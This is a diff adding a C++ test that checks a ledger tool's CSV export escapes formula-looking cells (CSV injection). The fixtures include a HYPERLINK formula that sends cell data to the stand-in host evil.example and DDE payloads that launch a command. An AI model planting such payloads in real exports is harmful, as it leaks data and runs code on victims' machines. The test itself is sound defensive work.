@@ -192,6 +192,86 @@ TEST_F(ExportTest, LedgerdServesTheSameExportWhileTheCliReadsAlongside) {
   for (const json& g : served["grants"]) ASSERT_EQ(SchemaProblem(g), "") << g.dump();
 }
 
+// What a spreadsheet would evaluate: a cell whose first character other than
+// a space is = + - @ TAB or CR, unless it is a plain decimal number.
+bool LooksLikeFormula(const std::string& cell) {
+  static const std::regex number("^-?[0-9]+(\\.[0-9]+)?$");
+  size_t i = cell.find_first_not_of(' ');
+  if (i == std::string::npos) return false;
+  if (std::string("=+-@\t\r").find(cell[i]) == std::string::npos) return false;
+  return !std::regex_match(cell, number);
+}
+
+// Grant and fund text that a spreadsheet would run as a formula comes out of
+// `ledgerctl export --format csv` as text (issue 16: CSV injection).
+TEST(ExportCsvTest, FormulaLookingCellsAreWrittenAsText) {
+  testing::TempDir dir("export-csv");
+  auto init = Ledgerctl({"init", "--data", dir.path, "--origin", "test.example/csv"});
+  ASSERT_EQ(init.code, 0) << init.out;
+  auto admin = Ledgerctl({"token", "--data", dir.path, "--role", "admin", "--name", "admin-1"});
+  auto rec = Ledgerctl({"token", "--data", dir.path, "--role", "recorder", "--name", "rec-1"});
+  ASSERT_EQ(admin.code, 0);
+  ASSERT_EQ(rec.code, 0);
+  const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"详情\")";
+  {
+    testing::LedgerdProcess server(dir.path);
+    ASSERT_TRUE(server.Start());
+    auto post = [&](const std::string& token, const json& req) {
+      auto r =
+          server.Client().Post("/api/v1/entries", {{"Authorization", "Bearer " + testing::FirstLine(token)}},
+                               req.dump(), "application/json");
+      ASSERT_TRUE(r);
+      ASSERT_EQ(r->status, 201) << req.dump() << " -> " << r->body;
+    };
+    post(admin.out, {{"type", "fund.open"},
+                     {"body",
+                      {{"id", "f1"},
+                       {"name", {{"zh", "@SUM(A1:A9)"}, {"en", "-1+1"}}},
+                       {"purpose", "p"},
+                       {"kind", "charity"}}}});
+    post(
+        rec.out,
+        {{"type", "donation"},
+         {"body", {{"fund", "f1"}, {"amount", 100000}, {"channel", "bank"}, {"received_at", "2020-03-01"}}}});
+    post(rec.out, {{"type", "grant"},
+                   {"body",
+                    {{"id", "g1"},
+                     {"fund", "f1"},
+                     {"recipient", {{"id", "org-a"}, {"name", "+cmd|' /C calc'!A0"}}},
+                     {"title", hyperlink},
+                     {"amount", 50050},
+                     {"award_date", "2020-04-01"},
+                     {"programme", "-2+3+cmd|' /C calc'!A0"}}}});
+  }
+  const std::string out = dir.path + "/grants.csv";
+  auto r =
+      Ledgerctl({"export", "--data", dir.path, "--format", "csv", "--out", out, "--funder-name", "=1+1"});
+  ASSERT_EQ(r.code, 0) << r.out;
+  const std::string text = testing::ReadFile(out);
+  auto rows = ParseCsv(text);
+  ASSERT_EQ(rows.size(), 2u) << text;
+  const auto& h = rows[0];
+  auto col = [&](const std::string& name) {
+    auto it = std::find(h.begin(), h.end(), name);
+    EXPECT_NE(it, h.end()) << name;
+    return static_cast<size_t>(it - h.begin());
+  };
+  for (const auto& row : rows) {
+    ASSERT_EQ(row.size(), h.size()) << text;
+    for (const auto& cell : row) EXPECT_FALSE(LooksLikeFormula(cell)) << cell << "\n" << text;
+  }
+  const auto& g = rows[1];
+  // The text is kept whole behind one apostrophe (docs/format.md section 11).
+  EXPECT_EQ(g[col("Title")], "'" + hyperlink);
+  EXPECT_EQ(g[col("Recipient Org:Name")], "'+cmd|' /C calc'!A0");
+  EXPECT_EQ(g[col("Grant Programme:Title")], "'-2+3+cmd|' /C calc'!A0");
+  EXPECT_EQ(g[col("Funding Org:Department")], "'@SUM(A1:A9)");
+  EXPECT_EQ(g[col("Funding Org:Name")], "'=1+1");
+  // Amounts stay numbers.
+  EXPECT_EQ(g[col("Amount Awarded")], "500.50");
+  EXPECT_EQ(g[col("Amount Disbursed")], "0.00");
+}
+
 TEST_F(ExportTest, UnknownFormatIsAUsageError) {
   auto r = Ledgerctl({"export", "--data", dir_->path, "--format", "xml"});
   EXPECT_EQ(r.code, 2);
